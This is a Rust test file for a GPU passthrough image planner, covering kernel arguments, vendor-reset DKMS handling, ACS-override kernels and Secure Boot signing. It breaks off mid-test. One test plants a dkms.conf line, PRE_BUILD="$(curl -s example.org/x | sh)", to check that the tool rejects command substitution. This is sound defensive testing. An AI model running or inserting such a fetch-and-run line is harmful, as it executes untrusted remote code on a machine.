use super::*;
use crate::config::{Config, Overrides};
use crate::kargs::{Karg, KernelArg};

/// gnif/vendor-reset's dkms.conf, as upstream has it.
const UPSTREAM_DKMS_CONF: &str = "PACKAGE_NAME=\"vendor-reset\"\nPACKAGE_VERSION=\"0.1.1\"\n\
    BUILT_MODULE_NAME[0]=\"${PACKAGE_NAME}\"\nMAKE[0]=\"make KDIR=${kernel_source_dir}\"\n\
    CLEAN=\"make KDIR=${kernel_source_dir} clean\"\n\
    DEST_MODULE_LOCATION[0]=\"/kernel/drivers/misc\"\nAUTOINSTALL=\"yes\"\n";

/// A directory holding upstream vendor-reset's dkms.conf, as a checkout of it would.
fn vendor_reset_tree() -> (tempfile::TempDir, Utf8PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = Utf8PathBuf::from_path_buf(dir.path().to_owned()).unwrap();
    std::fs::write(path.join("dkms.conf"), UPSTREAM_DKMS_CONF).unwrap();
    (dir, path)
}

fn config_with_path(path: &Utf8Path) -> Config {
    Config::from_toml(&format!("[vendor-reset]\npath = \"{path}\"\n"), "t.toml").unwrap()
}

fn plan(cpu: CpuChoice, gpus: &[GpuVendor], ids: &[&str]) -> Plan {
    plan_with(Config::default(), cpu, gpus, ids).unwrap()
}

fn plan_with(config: Config, cpu: CpuChoice, gpus: &[GpuVendor], ids: &[&str]) -> Result<Plan> {
    let overrides = Overrides {
        cpu: Some(cpu),
        gpu: Some(gpus.to_vec()),
        vfio_ids: Some(ids.iter().map(|id| id.parse().unwrap()).collect()),
        ..Default::default()
    };
    Plan::resolve(&config.with_overrides(&overrides), &Target::Image)
}

fn omitted(plan: &Plan) -> Vec<&str> {
    plan.omitted_kargs.iter().map(|o| o.karg).collect()
}

/// The guide's AMD list, minus what today's kernels do not take: `amd_iommu=on` is no option
/// (drivers/iommu/amd/init.c), the framebuffer arguments reach nothing on a simpledrm kernel, and
/// `nouveau.modeset=0` would also blind the host's own NVIDIA GPUs, which an image plan cannot see.
#[test]
fn amd_cpu_with_nvidia_gpu_gets_what_the_kernel_takes() {
    let plan = plan(
        CpuChoice::Amd,
        &[GpuVendor::Nvidia],
        &["10de:2684", "10de:22ba"],
    );
    assert_eq!(
        plan.kargs.as_strings(),
        [
            "iommu=pt",
            "kvm_amd.npt=1",
            "kvm_amd.avic=1",
            "kvm_amd.nested=1",
            "kvm_amd.sev=1",
            "rd.driver.pre=vfio-pci",
            "vfio_pci.ids=10de:2684,10de:22ba",
        ]
    );
    assert_eq!(
        omitted(&plan),
        [
            "amd_iommu=on",
            "kvm.ignore_msrs=1",
            "kvm.report_ignored_msrs=0",
            "video=vesafb:off,efifb:off",
            "nouveau.modeset=0"
        ]
    );
    let amd_iommu = &plan.omitted_kargs[0].reason;
    assert!(amd_iommu.contains("Unknown option - 'on'"), "{amd_iommu}");
    assert_eq!(plan.vfio.ids.len(), 2);
}

#[test]
fn intel_cpu_with_amd_gpu_gets_what_the_kernel_takes() {
    let plan = plan(
        CpuChoice::Intel,
        &[GpuVendor::Amd],
        &["1002:73bf", "1002:ab28"],
    );
    assert_eq!(
        plan.kargs.as_strings(),
        [
            "intel_iommu=on",
            "iommu=pt",
            "rd.driver.pre=vfio-pci",
            "vfio_pci.ids=1002:73bf,1002:ab28",
        ]
    );
    // amdgpu.aspm=0 changes only the GPUs the host drives itself: opt-in.
    assert!(omitted(&plan).contains(&"amdgpu.aspm=0"));
    // Navi 21 needs no vendor-reset: "auto" leaves it out.
    assert!(plan.modules.is_empty());
}

#[test]
fn opt_ins_plan_the_older_guide_arguments() {
    let mut config = Config::default();
    config.gpu.disable_boot_framebuffers = true;
    config.gpu.disable_sysfb = true;
    config.gpu.disable_nouveau = crate::config::Switch::On;
    config.gpu.disable_amdgpu_aspm = true;
    let plan = plan_with(
        config,
        CpuChoice::Intel,
        &[GpuVendor::Nvidia, GpuVendor::Amd],
        &[],
    )
    .unwrap();
    assert_eq!(
        plan.kargs.as_strings(),
        [
            "intel_iommu=on",
            "iommu=pt",
            // drivers/video/cmdline.c gives each video= value to the driver named before its `:`.
            "video=vesafb:off",
            "video=efifb:off",
            "video=simplefb:off",
            "initcall_blacklist=sysfb_init",
            "nouveau.modeset=0",
            "amdgpu.aspm=0",
            "rd.driver.pre=vfio-pci",
        ]
    );
}

#[test]
fn amd_switches_opt_ins_and_opt_outs() {
    let mut config = Config::default();
    config.cpu.avic = false;
    config.cpu.sev = false;
    config.cpu.ignore_msrs = true;
    config.vfio.early_binding = false;
    let plan = plan_with(config, CpuChoice::Amd, &[GpuVendor::Intel], &[]).unwrap();
    assert_eq!(
        plan.kargs.as_strings(),
        [
            "iommu=pt",
            "kvm_amd.npt=1",
            "kvm_amd.nested=1",
            "kvm.ignore_msrs=1",
            "kvm.report_ignored_msrs=0"
        ]
    );
    let reasons: Vec<(&str, &str)> = plan
        .omitted_kargs
        .iter()
        .map(|o| (o.karg, o.reason.as_str()))
        .collect();
    assert!(
        reasons.contains(&("kvm_amd.avic=1", "cpu.avic = false")),
        "{reasons:?}"
    );
    assert!(reasons.contains(&("rd.driver.pre=vfio-pci", "vfio.early-binding = false")));
    assert!(reasons.contains(&("vfio_pci.ids=…", "vfio.ids is empty")));
}

/// A host tree with an Intel CPU, the GPU to pass and a second NVIDIA GPU the host keeps, on `driver`.
fn host_with_kept_nvidia(driver: &str) -> (tempfile::TempDir, Root) {
    let dir = tempfile::tempdir().unwrap();
    let root = Root::new(camino::Utf8Path::from_path(dir.path()).unwrap());
    std::fs::create_dir_all(root.join("/proc")).unwrap();
    std::fs::write(
        root.join("/proc/cpuinfo"),
        "vendor_id\t: GenuineIntel\nflags\t: vmx\n",
    )
    .unwrap();
    for (address, id, drv) in [
        ("0000:01:00.0", "2684", "vfio-pci"),
        ("0000:02:00.0", "1b80", driver),
    ] {
        let dev = root.join(format!("/sys/bus/pci/devices/{address}"));
        std::fs::create_dir_all(&dev).unwrap();
        std::fs::write(dev.join("vendor"), "0x10de\n").unwrap();
        std::fs::write(dev.join("device"), format!("0x{id}\n")).unwrap();
        std::fs::write(dev.join("class"), "0x030000\n").unwrap();
        std::os::unix::fs::symlink(
            format!("../../../bus/pci/drivers/{drv}"),
            dev.join("driver"),
        )
        .unwrap();
    }
    (dir, root)
}

/// `nouveau.modeset=0` turns nouveau off for every NVIDIA GPU: planned by "auto" only when the host it is for
/// keeps none on nouveau.
#[test]
fn nouveau_is_turned_off_only_when_the_host_keeps_no_gpu_on_it() {
    let mut config = Config::default();
    config.gpu.vendors = vec![GpuVendor::Nvidia];
    config.vfio.ids = vec!["10de:2684".parse().unwrap()];
    let (_dir, root) = host_with_kept_nvidia("nouveau");
    let plan = Plan::resolve(&config, &Target::Host(root)).unwrap();
    assert!(
        !plan
            .kargs
            .iter()
            .any(|k| k.is(&crate::kargs::params::NOUVEAU_MODESET))
    );
    let reason = &plan
        .omitted_kargs
        .iter()
        .find(|o| o.karg == "nouveau.modeset=0")
        .unwrap()
        .reason;
    assert!(reason.contains("0000:02:00.0"), "{reason}");

    let (_dir, root) = host_with_kept_nvidia("nvidia");
    let plan = Plan::resolve(&config, &Target::Host(root)).unwrap();
    assert!(
        plan.kargs
            .iter()
            .any(|k| *k == Karg::parse("nouveau.modeset=0").unwrap())
    );
    assert_eq!(
        plan.cpu_vendor,
        CpuVendor::Intel,
        "auto read the host under --root"
    );
    assert!(
        plan.image_mode_warnings().is_empty(),
        "a host plan needs no build-machine warning"
    );
}

#[test]
fn repeated_ids_and_extras_appear_once() {
    let mut config = Config::default();
    config.kargs.extra = vec![
        crate::config::ExtraKarg(Karg::parse("iommu=pt").unwrap()),
        crate::config::ExtraKarg(Karg::parse("vfio-pci.ids=10de:2684").unwrap()),
        crate::config::ExtraKarg(Karg::parse("quiet").unwrap()),
    ];
    let plan = plan_with(config, CpuChoice::Intel, &[], &["10de:2684", "10de:2684"]).unwrap();
    assert_eq!(
        plan.kargs.as_strings(),
        [
            "intel_iommu=on",
            "iommu=pt",
            "rd.driver.pre=vfio-pci",
            "vfio_pci.ids=10de:2684",
            "quiet"
        ]
    );
}

/// IOMMU parameters read every token of every occurrence: extras that add tokens are fine.
#[test]
fn extra_iommu_tokens_add_to_the_planned_ones() {
    let mut config = Config::default();
    config.kargs.extra = vec![
        crate::config::ExtraKarg(Karg::parse("intel_iommu=sm_on").unwrap()),
        crate::config::ExtraKarg(Karg::parse("amd_iommu=force_isolation").unwrap()),
    ];
    let plan = plan_with(config, CpuChoice::Intel, &[], &[]).unwrap();
    assert!(
        plan.kargs
            .iter()
            .any(|k| *k == Karg::parse("intel_iommu=sm_on").unwrap())
    );
    let mut off = Config::default();
    off.kargs.extra = vec![crate::config::ExtraKarg(
        Karg::parse("amd_iommu=off").unwrap(),
    )];
    let err = plan_with(off, CpuChoice::Amd, &[], &[]).unwrap_err();
    assert!(
        format!("{err:#}").contains("turns the IOMMU off"),
        "{err:#}"
    );
}

/// arch/x86/include/asm/setup.h: the command line holds 2048 bytes, the host's own arguments included.
#[test]
fn planned_arguments_must_fit_the_x86_command_line() {
    let mut config = Config::default();
    config.kargs.extra = (0..120)
        .map(|i| crate::config::ExtraKarg(Karg::parse(&format!("param{i:03}=0123456789")).unwrap()))
        .collect();
    let err = plan_with(config, CpuChoice::Intel, &[], &[]).unwrap_err();
    let input = err.downcast_ref::<InputError>().expect("input error");
    assert_eq!(input.field, "kargs.extra");
    assert!(input.message.contains("2047"), "{input}");
    let mut near = Config::default();
    near.kargs.extra = (0..80)
        .map(|i| crate::config::ExtraKarg(Karg::parse(&format!("param{i:03}=0123456789")).unwrap()))
        .collect();
    let plan = plan_with(near, CpuChoice::Intel, &[], &[]).unwrap();
    assert!(
        plan.warnings.iter().any(|w| w.contains("host's own")),
        "{:?}",
        plan.warnings
    );
}

#[test]
fn an_extra_that_contradicts_a_planned_argument_is_bad_input() {
    let mut config = Config::default();
    config.kargs.extra = vec![crate::config::ExtraKarg(Karg::parse("iommu=off").unwrap())];
    let err = plan_with(config, CpuChoice::Intel, &[], &[]).unwrap_err();
    let input = err.downcast_ref::<InputError>().expect("input error");
    assert_eq!(input.field, "kargs.extra[0]");
    assert!(input.message.contains("turns the IOMMU off"), "{input}");
    let mut nopt = Config::default();
    nopt.kargs.extra = vec![crate::config::ExtraKarg(Karg::parse("iommu=nopt").unwrap())];
    let err = plan_with(nopt, CpuChoice::Intel, &[], &[]).unwrap_err();
    assert!(format!("{err:#}").contains("(planned iommu=pt)"), "{err:#}");
}

#[test]
fn auto_cpu_reads_the_host_and_fails_clearly_without_one() {
    let dir = tempfile::tempdir().unwrap();
    let root = Root::new(camino::Utf8Path::from_path(dir.path()).unwrap());
    std::fs::create_dir(root.join("/proc")).unwrap();
    std::fs::write(
        root.join("/proc/cpuinfo"),
        "vendor_id\t: AuthenticAMD\nflags\t: svm\n",
    )
    .unwrap();
    let plan = Plan::resolve(&Config::default(), &Target::Host(root.clone())).unwrap();
    assert_eq!(plan.cpu_vendor, CpuVendor::Amd);
    std::fs::write(root.join("/proc/cpuinfo"), "vendor_id\t: SomethingElse\n").unwrap();
    let err = Plan::resolve(&Config::default(), &Target::Host(root)).unwrap_err();
    assert!(
        err.downcast_ref::<InputError>()
            .is_some_and(|e| e.field == "cpu.vendor"),
        "{err:#}"
    );
}

#[test]
fn device_ids_and_addresses_live_only_in_the_host_layer() {
    let (_dir, tree) = vendor_reset_tree();
    let mut config = config_with_path(&tree);
    config.vfio.addresses = vec!["0000:0b:00.0".parse().unwrap()];
    let plan = plan_with(
        config,
        CpuChoice::Amd,
        &[GpuVendor::Amd],
        &["1002:67df", "1002:aaf0"],
    )
    .unwrap();
    for file in plan.files_in(Layer::Initramfs) {
        assert!(
            !file.content.contains("67df") && !file.content.contains("0b:00.0"),
            "{} holds a device ID or address",
            file.path
        );
    }
    let host: Vec<&str> = plan
        .files_in(Layer::Host)
        .map(|f| f.path.as_str())
        .collect();
    assert_eq!(
        host,
        [
            "/usr/lib/udev/rules.d/99-passthru-vendor-reset.rules",
            "/usr/lib/bootc/kargs.d/50-passthru.toml",
            "/usr/share/passthru-image/passthru.toml",
            "/usr/share/passthru-image/plan.json",
        ]
    );
}

/// Addresses travel in an argument of our own, after the IDs; the initramfs always gets the module whose hook
/// reads it, so adding the first address changes no initramfs file.
#[test]
fn addresses_are_planned_in_their_own_argument_beside_the_ids() {
    let config = Config::from_toml(
        "[vfio]\naddresses = [\"02:00.0\", \"0000:02:00.1\", \"02:00.0\"]\n",
        "t.toml",
    )
    .unwrap();
    let plan = plan_with(
        config,
        CpuChoice::Intel,
        &[GpuVendor::Nvidia],
        &["10de:2684"],
    )
    .unwrap();
    assert_eq!(
        plan.kargs.as_strings(),
        [
            "intel_iommu=on",
            "iommu=pt",
            "rd.driver.pre=vfio-pci",
            "vfio_pci.ids=10de:2684",
            "rd.passthru.vfio_addresses=0000:02:00.0,0000:02:00.1",
        ]
    );
    assert_eq!(plan.vfio.addresses.len(), 2, "each once");
    let without = plan_with(
        Config::default(),
        CpuChoice::Intel,
        &[GpuVendor::Nvidia],
        &["10de:2684"],
    )
    .unwrap();
    let initramfs =
        |plan: &Plan| -> Vec<PlannedFile> { plan.files_in(Layer::Initramfs).cloned().collect() };
    let contents = |plan: &Plan| -> Vec<(String, String)> {
        initramfs(plan)
            .into_iter()
            .map(|f| (f.path.to_string(), f.content))
            .collect()
    };
    assert_eq!(contents(&plan), contents(&without));
    assert!(
        !without
            .kargs
            .iter()
            .any(|k| k.is(&crate::kargs::params::RD_PASSTHRU_VFIO_ADDRESSES))
    );
    let dracut = &initramfs(&plan)[0];
    assert!(
        dracut
            .content
            .contains("add_dracutmodules+=\" passthru-vfio \""),
        "{}",
        dracut.content
    );
    let hook = initramfs(&plan)
        .into_iter()
        .find(|f| {
            f.path
                .as_str()
                .ends_with("90passthru-vfio/passthru-vfio-bind.sh")
        })
        .expect("the dracut module's hook is installed");
    assert_eq!(hook.mode, 0o755);
    // Live mode cannot install the module, so its drop-in does not ask dracut for it.
    assert!(!plan.live_files[0].content.contains("add_dracutmodules"));
}

/// The hook's own reading of the argument matches the parameter's name and repeat rule.
#[test]
fn the_hook_reads_the_planned_argument() {
    let hook = DRACUT_MODULE_FILES
        .iter()
        .find(|(name, _)| *name == "passthru-vfio-bind.sh")
        .unwrap()
        .1;
    assert!(hook.contains("rd.passthru.vfio[_-]addresses=*) list=${word#*=}"));
    assert_eq!(
        crate::kargs::params::RD_PASSTHRU_VFIO_ADDRESSES.repeats,
        crate::kargs::params::Repeats::LastWins,
        "the hook keeps the last occurrence"
    );
    let setup = DRACUT_MODULE_FILES[0].1;
    assert!(setup.contains("inst_hook pre-udev"), "{setup}");
}

#[test]
fn vendor_reset_auto_follows_the_table_and_can_be_forced() {
    let polaris = plan(CpuChoice::Amd, &[GpuVendor::Amd], &["1002:67df"]);
    assert_eq!(polaris.modules.len(), 1);
    // Only the one about signing: an image plan without [signing] builds the module unsigned.
    assert_eq!(polaris.warnings.len(), 1, "{:?}", polaris.warnings);
    assert!(polaris.warnings[0].starts_with("[signing] is not set"));
    let mut config = Config::default();
    config.vendor_reset.enabled = crate::config::Switch::Off;
    let off = plan_with(
        config,
        CpuChoice::Amd,
        &[],
        &["1002:67df", "1002:aaf0", "1002:67DF"],
    )
    .unwrap();
    assert!(off.modules.is_empty());
    // Turned off for a GPU that needs it: said once (however often it is listed), for that GPU only
    // (1002:aaf0 is its HDMI audio).
    assert_eq!(off.warnings.len(), 1, "{:?}", off.warnings);
    assert!(
        off.warnings[0].contains("1002:67df") && off.warnings[0].contains("Polaris"),
        "{}",
        off.warnings[0]
    );
}

#[test]
fn acs_override_karg_only_with_the_kernel() {
    let dir = tempfile::tempdir().unwrap();
    let path = camino::Utf8Path::from_path(dir.path()).unwrap();
    std::fs::write(
        path.join("kernel-core-6.11.4-301.acs.fc41.x86_64.rpm"),
        b"rpm",
    )
    .unwrap();
    // Repeats in the config appear once on the command line.
    let text = format!(
        "[acs-override]\nenabled = true\nmode = [\"downstream\", \"multifunction\", \
         \"downstream\"]\nids = [\"1022:43c6\", \"1022:43C6\"]\npackages = \"{path}\"\n"
    );
    let config = Config::from_toml(&text, "t.toml").unwrap();
    let plan = plan_with(config, CpuChoice::Amd, &[], &[]).unwrap();
    assert!(
        plan.kargs.iter().any(|k| *k
            == Karg::parse("pcie_acs_override=downstream,multifunction,id:1022:43c6").unwrap())
    );
    assert!(plan.kernel.is_some());
    let without = plan_with(Config::default(), CpuChoice::Amd, &[], &[]).unwrap();
    assert!(
        !without
            .kargs
            .iter()
            .any(|k| k.is(&crate::kargs::params::PCIE_ACS_OVERRIDE))
    );
}

#[test]
fn the_kernel_swap_is_conditional_and_removes_only_kernel_packages() {
    let dir = tempfile::tempdir().unwrap();
    let path = camino::Utf8Path::from_path(dir.path()).unwrap();
    std::fs::write(path.join("linux-image-6.1.0-50-cloud-amd64.deb"), b"deb").unwrap();
    let text = format!("[acs-override]\nenabled = true\npackages = \"{path}\"\n");
    let config = Config::from_toml(&text, "t.toml").unwrap();
    let kernel = plan_with(config, CpuChoice::Amd, &[], &[])
        .unwrap()
        .kernel
        .unwrap();
    // A base kernel that has the patch's setup function already takes the karg: the build swaps nothing.
    assert_eq!(kernel.unless_symbol, "pcie_acs_override_setup");
    let rpm = &kernel.removes.rpm;
    for name in [
        "kernel",
        "kernel-core",
        "kernel-modules-extra",
        "kernel-devel-matched",
        "kernel-uki-virt",
    ] {
        assert!(rpm.iter().any(|n| n == name), "{name} missing from {rpm:?}");
        let acs = name.replacen("kernel", "kernel-acs", 1);
        assert!(rpm.contains(&acs), "{acs} missing from {rpm:?}");
    }
    // They share the kernel's version string on CentOS/RHEL, but are no part of the kernel.
    for other in [
        "kernel-tools",
        "kernel-tools-libs",
        "kernel-headers",
        "kernel-acs-tools",
    ] {
        assert!(!rpm.iter().any(|n| n == other), "{other} would be removed");
    }
    assert_eq!(
        kernel.removes.deb,
        ["linux-image-{kver}", "linux-headers-{kver}"]
    );
}

#[test]
fn a_gpu_vendor_given_twice_plans_its_drivers_once() {
    let plan = plan(
        CpuChoice::Intel,
        &[GpuVendor::Nvidia, GpuVendor::Nvidia],
        &[],
    );
    let modprobe = plan.files.iter().find(|f| f.path == MODPROBE_CONF).unwrap();
    assert_eq!(modprobe.content.matches("softdep nvidia").count(), 1);
    assert!(
        plan.image_mode_warnings().is_empty(),
        "an explicit vendor needs no warning"
    );
}

#[test]
fn a_git_source_is_planned_by_its_commit_until_it_is_fetched() {
    let ids = ["1002:67df", "1002:aaf0"];
    let unfetched = plan(CpuChoice::Amd, &[GpuVendor::Amd], &ids);
    let module = &unfetched.modules[0];
    assert!(module.dkms_conf().is_none());
    assert_eq!(
        module.origin(),
        format!(
            "dkms.conf at {} of {}",
            crate::config::sources::VENDOR_RESET_COMMIT,
            crate::config::sources::VENDOR_RESET_GIT
        )
    );
    // Without its module names, neither the modules-load.d file nor the udev rule can be written yet.
    assert!(
        !unfetched
            .files
            .iter()
            .any(|f| f.path == MODULES_LOAD_CONF || f.path == UDEV_RULE)
    );
    let json = serde_json::to_value(module).unwrap();
    assert_eq!(json["name"], serde_json::Value::Null);
    assert_eq!(json["kernel_modules"], serde_json::Value::Null);
    assert_eq!(json["source"]["kind"], "git");
    assert!(
        json["from"].as_str().unwrap().starts_with("dkms.conf at "),
        "{json}"
    );

    // Fetched, the checkout is read by the same code as a local source.
    let (_dir, tree) = vendor_reset_tree();
    let mut checkouts = Checkouts::default();
    checkouts.add(
        crate::config::sources::VENDOR_RESET_GIT,
        crate::config::sources::VENDOR_RESET_COMMIT,
        tree.clone(),
    );
    let overrides = Overrides {
        cpu: Some(CpuChoice::Amd),
        vfio_ids: Some(ids.iter().map(|id| id.parse().unwrap()).collect()),
        ..Default::default()
    };
    let config = Config::default().with_overrides(&overrides);
    let fetched = Plan::resolve_fetched(&config, &Target::Image, &checkouts).unwrap();
    let conf = fetched.modules[0].dkms_conf().unwrap();
    assert_eq!(
        (conf.name.as_str(), conf.version.as_str()),
        ("vendor-reset", "0.1.1")
    );
    let load = fetched
        .files
        .iter()
        .find(|f| f.path == MODULES_LOAD_CONF)
        .unwrap();
    assert!(
        load.content.ends_with("\nvendor-reset\n"),
        "{}",
        load.content
    );
    let json = serde_json::to_value(&fetched.modules[0]).unwrap();
    assert_eq!(json["name"], "vendor-reset");
    assert_eq!(json["kernel_modules"][0]["name"], "vendor-reset");
    assert_eq!(
        json["make"],
        serde_json::json!([
            "make",
            "-j${parallel_jobs}",
            "KERNELRELEASE=${kernelver}",
            "KDIR=${kernel_source_dir}"
        ])
    );
}

#[test]
fn the_udev_rule_loads_the_module_before_it_sets_the_reset_method() {
    let (_dir, tree) = vendor_reset_tree();
    let plan = plan_with(
        config_with_path(&tree),
        CpuChoice::Amd,
        &[GpuVendor::Amd],
        &["1002:67df", "1002:aaf0"],
    )
    .unwrap();
    let rule = &plan
        .files
        .iter()
        .find(|f| f.path == UDEV_RULE)
        .unwrap()
        .content;
    let lines: Vec<&str> = rule.lines().filter(|l| !l.starts_with('#')).collect();
    assert_eq!(
        lines,
        [
            "ACTION==\"add\", SUBSYSTEM==\"pci\", ATTR{vendor}==\"0x1002\", \
          ATTR{device}==\"0x67df\", PROGRAM=\"/sbin/modprobe -a vendor-reset\", \
          ATTR{reset_method}=\"device_specific\""
        ]
    );
}

#[test]
fn a_local_source_whose_dkms_conf_needs_a_shell_is_bad_input_naming_the_line() {
    let (_dir, tree) = vendor_reset_tree();
    std::fs::write(
        tree.join("dkms.conf"),
        format!("{UPSTREAM_DKMS_CONF}PRE_BUILD=\"$(curl -s example.org/x | sh)\"\n"),
    )
    .unwrap();
    let err = plan_with(config_with_path(&tree), CpuChoice::Amd, &[], &["1002:67df"]).unwrap_err();
    let input = err.downcast_ref::<InputError>().expect("input error");
    assert_eq!(input.field, "vendor-reset.path");
    assert!(
        input.message.starts_with(&format!(
            "dkms.conf in {tree}, line 8: $(...) is command substitution"
        )),
        "{input}"
    );
}

/// Bazzite's kernel carries the ACS override patch: on such a host only the argument is planned.
#[test]
fn a_host_kernel_with_the_acs_patch_is_not_replaced() {
    let dir = tempfile::tempdir().unwrap();
    let root = Root::new(camino::Utf8Path::from_path(dir.path()).unwrap());
    std::fs::create_dir_all(root.join("/proc")).unwrap();
    std::fs::write(
        root.join("/proc/kallsyms"),
        "ffffffffb1a2b3c4 T pci_enable_device\nffffffffb1a2b3d0 t pcie_acs_override_setup\n",
    )
    .unwrap();
    let packages = tempfile::tempdir().unwrap();
    let path = camino::Utf8Path::from_path(packages.path()).unwrap();
    std::fs::write(
        path.join("kernel-core-6.11.4-301.acs.fc41.x86_64.rpm"),
        b"rpm",
    )
    .unwrap();
    let mut config = Config::from_toml(
        &format!("[acs-override]\nenabled = true\npackages = \"{path}\"\n"),
        "t.toml",
    )
    .unwrap();
    config.cpu.vendor = CpuChoice::Amd;
    let plan = Plan::resolve(&config, &Target::Host(root)).unwrap();
    assert!(plan.kernel.is_none());
    assert!(
        plan.kargs
            .iter()
            .any(|k| k.is(&crate::kargs::params::PCIE_ACS_OVERRIDE))
    );
    assert!(
        plan.notes[0].contains("already carries the ACS override patch"),
        "{:?}",
        plan.notes
    );
    // An image plan cannot see the base's kernel: its build checks System.map.
    let image = Plan::resolve(&config, &Target::Image).unwrap();
    assert!(image.kernel.is_some() && image.notes.is_empty());
}

/// A key pair like `mok new`'s whose extended key usage is `eku`, and the `[signing]` section naming it.
fn signing_toml(dir: &Utf8Path, eku: &str) -> String {
    let config = dir.join("req.cnf");
    std::fs::write(
        &config,
        format!(
            "[ req ]\ndistinguished_name = dn\nx509_extensions = ext\nprompt = no\n[ dn ]\n[ ext \
             ]\nextendedKeyUsage = {eku}\n"
        ),
    )
    .unwrap();
    crate::cmd::Cmd::new("openssl")
        .args([
            "req", "-new", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
        ])
        .args(["-config", config.as_str(), "-subj", "/CN=plan test MOK"])
        .args(["-keyout", dir.join("MOK.key").as_str()])
        .args(["-out", dir.join("MOK.pem").as_str()])
        .read()
        .unwrap();
    format!("[signing]\nkey = \"{dir}/MOK.key\"\ncert = \"{dir}/MOK.pem\"\n")
}

/// A host tree whose firmware says Secure Boot is `secure_boot` and whose kernel is locked down to `lockdown`.
fn firmware_host(secure_boot: Option<u8>, lockdown: Option<&str>) -> (tempfile::TempDir, Root) {
    let dir = tempfile::tempdir().unwrap();
    let root = Root::new(camino::Utf8Path::from_path(dir.path()).unwrap());
    if let Some(value) = secure_boot {
        std::fs::create_dir_all(root.join(firmware::EFIVARS_DIR)).unwrap();
        std::fs::write(
            root.join(format!(
                "{}/SecureBoot-8be4df61-93ca-11d2-aa0d-00e098032b8c",
                firmware::EFIVARS_DIR
            )),
            [6, 0, 0, 0, value],
        )
        .unwrap();
    }
    if let Some(mode) = lockdown {
        std::fs::create_dir_all(root.join("/sys/kernel/security")).unwrap();
        std::fs::write(root.join(firmware::LOCKDOWN), mode).unwrap();
    }
    (dir, root)
}

/// A config with vendor-reset from a local tree, the ACS-override kernel when `kernel`, and `extra`.
fn secure_boot_config(tree: &Utf8Path, packages: &Utf8Path, kernel: bool, extra: &str) -> Config {
    let mut text =
        format!("[cpu]\nvendor = \"amd\"\n[vendor-reset]\nenabled = true\npath = \"{tree}\"\n");
    if kernel {
        std::fs::write(
            packages.join("kernel-core-6.11.4-301.acs.fc41.x86_64.rpm"),
            b"rpm",
        )
        .unwrap();
        text += &format!("[acs-override]\nenabled = true\npackages = \"{packages}\"\n");
    }
    Config::from_toml(&(text + extra), "t.toml").unwrap()
}

fn refusal(config: &Config, root: Root) -> InputError {
    let err = Plan::resolve(config, &Target::Host(root)).unwrap_err();
    err.downcast::<InputError>()
        .unwrap_or_else(|e| panic!("not bad input: {e:#}"))
}

#[test]
fn a_secure_boot_host_refuses_an_unsigned_module_or_kernel_and_says_how_to_sign() {
    let (_tree_dir, tree) = vendor_reset_tree();
    let packages = tempfile::tempdir().unwrap();
    let packages = Utf8Path::from_path(packages.path()).unwrap();
    let both = secure_boot_config(&tree, packages, true, "");
    let (_dir, root) = firmware_host(Some(1), Some("none [integrity] confidentiality\n"));
    let err = refusal(&both, root.clone());
    assert_eq!(err.field, "signing");
    // doctor checks such a host as it is: its Secure Boot and lockdown checks report the unsigned module.
    let diagnosed = Plan::resolve_to_diagnose(&both, &Target::Host(root)).unwrap();
    assert!(diagnosed.signing.is_none() && !diagnosed.modules.is_empty());
    for part in [
        "Secure Boot is on and its kernel is locked down (integrity)",
        "the vendor-reset module would not load",
        "the ACS-override kernel would not boot",
        "passthru-image mok new DIR",
        "sudo mokutil --import DIR/MOK.der",
        "[signing] key = \"DIR/MOK.key\"",
    ] {
        assert!(
            err.message.contains(part),
            "{part:?} not in: {}",
            err.message
        );
    }
    // A kernel locked down without Secure Boot (lockdown=integrity) refuses modules, while shim is not
    // involved in the boot: the kernel alone would boot.
    let (_dir, root) = firmware_host(Some(0), Some("none [integrity] confidentiality\n"));
    let modules_only = secure_boot_config(&tree, packages, false, "");
    let err = refusal(&modules_only, root.clone());
    assert!(
        err.message.contains("locked down (integrity)"),
        "{}",
        err.message
    );
    let mut kernel_only = both.clone();
    kernel_only.vendor_reset.enabled = crate::config::Switch::Off;
    let plan = Plan::resolve(&kernel_only, &Target::Host(root)).unwrap();
    assert!(plan.kernel.is_some() && plan.signing.is_none());
    assert!(
        !plan.warnings.iter().any(|w| w.contains("[signing]")),
        "{:?}",
        plan.warnings
    );
}

#[test]
fn hosts_without_secure_boot_and_images_take_unsigned_code() {
    let (_tree_dir, tree) = vendor_reset_tree();
    let packages = tempfile::tempdir().unwrap();
    let packages = Utf8Path::from_path(packages.path()).unwrap();
    let config = secure_boot_config(&tree, packages, true, "");
    // Off, in setup mode (nothing enforced), or not known (no efivars under the root).
    for (secure_boot, lockdown) in [
        (Some(0), Some("[none] integrity confidentiality")),
        (Some(0), None),
        (None, None),
    ] {
        let (_dir, root) = firmware_host(secure_boot, lockdown);
        let plan = Plan::resolve(&config, &Target::Host(root)).unwrap();
        assert!(plan.warnings.is_empty(), "{:?}", plan.warnings);
    }
    let (_dir, root) = firmware_host(Some(1), None);
    std::fs::write(
        root.join(format!(
            "{}/SetupMode-8be4df61-93ca-11d2-aa0d-00e098032b8c",
            firmware::EFIVARS_DIR
        )),
        [6, 0, 0, 0, 1],
    )
    .unwrap();
    assert!(Plan::resolve(&config, &Target::Host(root)).is_ok());
    // An image is for hosts this machine cannot see: a warning, with the same way out.
    let image = Plan::resolve(&config, &Target::Image).unwrap();
    let warning = image
        .warnings
        .iter()
        .find(|w| w.starts_with("[signing]"))
        .unwrap();
    assert!(
        warning.contains("the vendor-reset module and the ACS-override kernel are built unsigned"),
        "{warning}"
    );
    assert!(warning.contains("passthru-image mok new DIR"), "{warning}");
    assert!(!image.signs());
}

#[test]
fn with_signing_a_secure_boot_host_plans_the_signed_module_and_kernel() {
    let (_tree_dir, tree) = vendor_reset_tree();
    let packages = tempfile::tempdir().unwrap();
    let packages = Utf8Path::from_path(packages.path()).unwrap();
    let keys = tempfile::tempdir().unwrap();
    let keys = Utf8Path::from_path(keys.path()).unwrap();
    let config = secure_boot_config(&tree, packages, true, &signing_toml(keys, "codeSigning"));
    let (_dir, root) = firmware_host(Some(1), Some("none [integrity] confidentiality"));
    let plan = Plan::resolve(&config, &Target::Host(root)).unwrap();
    assert!(plan.signs());
    let signing = plan.signing.as_ref().unwrap();
    assert_eq!(signing.certificate.subject, "CN=plan test MOK");
    assert_eq!(signing.certificate.sha256.len(), 64);
    assert_eq!(
        signing.key,
        crate::config::signing::PemSource::File {
            path: keys.join("MOK.key")
        }
    );
    let json = serde_json::to_value(&plan).unwrap();
    assert_eq!(
